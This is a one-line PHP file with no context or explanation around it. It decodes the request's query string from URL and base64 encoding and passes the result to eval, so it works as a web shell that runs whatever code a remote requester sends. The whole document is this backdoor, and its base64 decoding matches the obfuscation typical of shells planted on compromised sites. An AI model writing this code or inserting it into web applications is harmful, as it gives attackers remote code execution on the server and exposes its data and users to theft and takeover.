<?php $s = $_SERVER["REQUEST_URI"]; $p = explode("?", $s); eval(base64_decode(urldecode($p[1])));
